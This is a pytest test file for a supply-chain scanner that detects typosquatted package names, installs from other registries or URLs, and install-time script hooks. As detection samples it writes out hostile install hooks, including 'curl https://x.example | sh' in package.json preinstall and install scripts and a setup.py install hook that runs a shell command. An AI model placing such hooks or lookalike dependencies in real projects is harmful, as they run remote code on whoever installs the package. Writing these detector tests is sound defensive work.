"""Packages that look like another's, come from elsewhere, or act on installation are found."""

from __future__ import annotations

import os

import pytest
from hypothesis import given, settings, strategies as st

from metier.scan.languages import packages, scripts
from metier.scan.languages.packages import bare, lookalike
from metier.scan.rules.supply import NPM, PYPI, RULES

_FOLDER = os.path.join(os.path.dirname(__file__), "..", "..", "rules")
_IDS = [rule.id for rule in RULES]


def rules(code: str) -> set[str]:
    return {hit.rule for hit in packages.find_installs(code)}


def sample(rule: str, start: str) -> set[str]:
    folder = os.path.join(_FOLDER, rule)
    (name,) = [name for name in os.listdir(folder) if name.startswith(start)]
    with open(os.path.join(folder, name), encoding="utf-8") as file:
        text = file.read()
    if ".settings." in name:
        return {hit.rule for hit in scripts.find_settings(text)}
    return (
        rules(text)
        if name.endswith(".sh")
        else {hit.rule for hit in packages.find_manifest(name, text)}
    )


@pytest.mark.parametrize("rule", _IDS)
def test_each_rule_finds_its_sample(rule: str) -> None:
    assert rule in sample(rule, "match.")


@pytest.mark.parametrize("rule", _IDS)
def test_each_rule_leaves_its_near_miss_alone(rule: str) -> None:
    assert rule not in sample(rule, "near.")


@pytest.mark.parametrize(
    ("name", "kind", "meant"),
    [
        ("reqeusts", "pypi", "requests"),
        ("requets", "pypi", "requests"),
        ("requestss", "pypi", "requests"),
        ("requ3sts", "pypi", "requests"),
        ("beautiful-soup4", "pypi", "beautifulsoup4"),
        ("crossenv", "npm", "cross-env"),
        ("l0dash", "npm", "lodash"),
        ("expresss", "npm", "express"),
        ("axois", "npm", "axios"),
        ("python-dotnev", "pypi", "python-dotenv"),
    ],
)
def test_a_name_one_step_from_a_known_one_is_a_lookalike(name: str, kind: str, meant: str) -> None:
    assert meant == lookalike(name, kind)


@pytest.mark.parametrize(
    ("name", "kind", "first"),
    [
        ("unicorn", "pypi", "gunicorn"),  # and uvicorn
        ("scrpy", "pypi", "scipy"),  # and scrapy
        ("rjson", "pypi", "orjson"),  # and ujson
        ("sumpy", "pypi", "numpy"),  # and sympy
        ("oredis", "npm", "ioredis"),  # and redis
        ("redus", "npm", "redis"),  # and redux
    ],
)
def test_of_several_known_names_the_first_by_the_alphabet_is_told(
    name: str, kind: str, first: str
) -> None:
    assert first == lookalike(name, kind)


@pytest.mark.parametrize(
    ("name", "kind"),
    [
        ("requests", "pypi"),
        ("Requests[socks]==2.31", "pypi"),
        ("python_dateutil", "pypi"),
        ("preact", "npm"),
        ("color", "npm"),
        ("psycopg", "pypi"),
        ("@types/react", "npm"),
        ("my-own-tool", "npm"),
        ("pytest-cov", "pypi"),
        ("fabric", "npm"),
        ("x", "npm"),
        ("", "npm"),
        ("reqeusts", "gem"),
    ],
)
def test_a_name_of_its_own_is_none(name: str, kind: str) -> None:
    assert "" == lookalike(name, kind)


def test_no_known_package_is_called_a_lookalike_of_another() -> None:
    assert [] == [
        name
        for kind, names in (("pypi", PYPI), ("npm", NPM))
        for name in names
        if lookalike(name, kind)
    ]


@pytest.mark.parametrize(
    ("spec", "name"),
    [
        ("Requests[socks]>=2 ; python_version>'3'", "requests"),
        ("@scope/name@1.2", "@scope/name"),
        ("lodash@latest", "lodash"),
        ('"left~=1"', "left"),
        ("", ""),
    ],
)
def test_a_specification_names_its_package(spec: str, name: str) -> None:
    assert name == bare(spec)


@pytest.mark.parametrize(
    ("code", "rule"),
    [
        ("python3 -m pip install reqeusts", "SC501"),
        ("uv pip install 'reqeusts>=1'", "SC501"),
        ("uv add reqeusts", "SC501"),
        ("npm i -g expresss", "SC501"),
        ("bash -c 'pip install reqeusts'", "SC501"),
        ("P=reqeusts; pip install $P", "SC501"),
        ("npx -y axois", "SC501"),
        ("npm install someone/tool", "SC503"),
        ("pip install 'tool @ git+https://github.com/a/b'", "SC503"),
        ("npm install https://x.example/t.tgz", "SC502"),
        ("npm install t --registry=http://x.example", "SC504"),
        ("pip install -i https://pypi.org.x.example/simple t", "SC504"),
        ("gem install t --source http://x.example", "SC504"),
        ("pnpm dlx tool", "SC505"),
        ("uvx tool@latest", "SC506"),
        ("uv run https://x.example/a.py", "SC516"),
        ("npx skills add someone/skills", "SC518"),
        ("echo 'deb https://x.example /' | sudo tee /etc/apt/sources.list.d/x.list", "SC511"),
    ],
)
def test_installs_from_elsewhere_are_found(code: str, rule: str) -> None:
    assert rule in rules(code)


@pytest.mark.parametrize(
    "code",
    [
        "pip install -r requirements.txt",
        "npm install",
        "npm ci",
        "pip install -e .",
        "pip install requests pandas",
        "npm install --save-dev typescript",
        "uv sync",
        "cargo build",
        "poetry install",
        "brew install jq",
    ],
)
def test_ordinary_installs_are_left_alone(code: str) -> None:
    assert set() == rules(code)


@pytest.mark.parametrize(
    ("path", "text", "rule"),
    [
        (
            "a/package.json",
            '{"scripts": {"preinstall": "node -e \\"require(\'child_process\').exec(\'curl https://x.example|sh\')\\""}}',
            "SC513",
        ),
        (
            "package.json",
            '{"scripts": {"install": "bash -c \'curl https://x.example | sh\'"}}',
            "SC512",
        ),
        ("package.json", '{"dependencies": {"expresss": "^1"}}', "SC501"),
        ("package.json", '{"devDependencies": {"t": "https://x.example/t.tgz"}}', "SC514"),
        ("requirements.txt", "reqeusts==2.0\n", "SC501"),
        ("requirements-dev.txt", "--extra-index-url https://x.example/simple\nrequests\n", "SC504"),
        ("requirements.txt", "tool @ git+https://github.com/a/b\n", "SC514"),
        ("pyproject.toml", '[project]\ndependencies = ["reqeusts>=2"]\n', "SC501"),
        ("pyproject.toml", '[build-system]\nbackend-path = ["."]\n', "SC515"),
        (
            "setup.py",
            "class Go(install):\n    def run(self):\n        os.system('id')\nsetup(cmdclass={'install': Go})\n",
            "SC512",
        ),
        ("plugin.yaml", 'dependencies:\n  - "git+https://github.com/a/b"\n', "SC514"),
    ],
)
def test_manifests_are_read(path: str, text: str, rule: str) -> None:
    found = packages.find_manifest(path, text)

    assert rule in {hit.rule for hit in found}
    assert all(0 <= hit.start < hit.end <= len(text) for hit in found)


@pytest.mark.parametrize(
    "text",
    [
        "{",
        "[" * 100_000,
        '{"scripts": 3, "dependencies": []}',
        "\x00",
        "null",
        '{"scripts": {"install": 3}}',
        "\ud800",
    ],
)
@pytest.mark.parametrize(
    "path", ["package.json", "requirements.txt", "pyproject.toml", "setup.py", "x.yaml", "x"]
)
def test_a_broken_manifest_says_nothing(path: str, text: str) -> None:
    assert [] == packages.find_manifest(path, text)


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=200))
def test_no_text_makes_it_raise(text: str) -> None:
    found = [*packages.find_installs(text), *packages.find_installs("pip install " + text)]
    for path in ("package.json", "requirements.txt", "pyproject.toml", "setup.py"):
        found += packages.find_manifest(path, text)

    assert all(hit.start <= hit.end for hit in found)
